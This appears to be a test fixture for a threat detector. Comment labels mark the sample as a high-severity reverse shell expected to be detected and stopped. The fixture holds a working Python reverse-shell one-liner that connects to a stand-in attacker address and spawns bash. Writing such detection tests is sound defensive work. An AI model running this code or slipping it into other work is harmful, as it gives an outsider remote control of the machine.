# expect: detected
# threat: 27 reverse shell
# at: either
# family: reverse-shell
# severity: high
# decision: stopped

import socket, os, pty
s = socket.socket(); s.connect(("203.0.113.9", 443)); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; pty.spawn("/bin/bash")
